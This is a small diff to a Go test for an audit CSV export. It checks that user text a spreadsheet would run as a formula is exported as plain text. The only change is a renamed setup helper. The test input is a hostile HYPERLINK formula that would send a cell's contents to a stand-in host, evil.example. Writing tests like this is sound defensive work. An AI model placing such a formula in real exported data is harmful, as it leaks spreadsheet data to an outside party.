@@ -15,7 +15,7 @@ import (
 // Text from users that a spreadsheet would run as a formula is exported as
 // text unless the caller keeps formulas.
 func TestAuditExportCSVNeutralisesFormulas(t *testing.T) {
-	c, srv := newSimClient(t)
+	srv, c := startSim(t)
 	ctx := t.Context()
 	folder := srv.AddFolder(xecmtest.EnterpriseWorkspaceID, "Evidence")
 	hostile := `=HYPERLINK("http://evil.example/?"&A1,"open")`
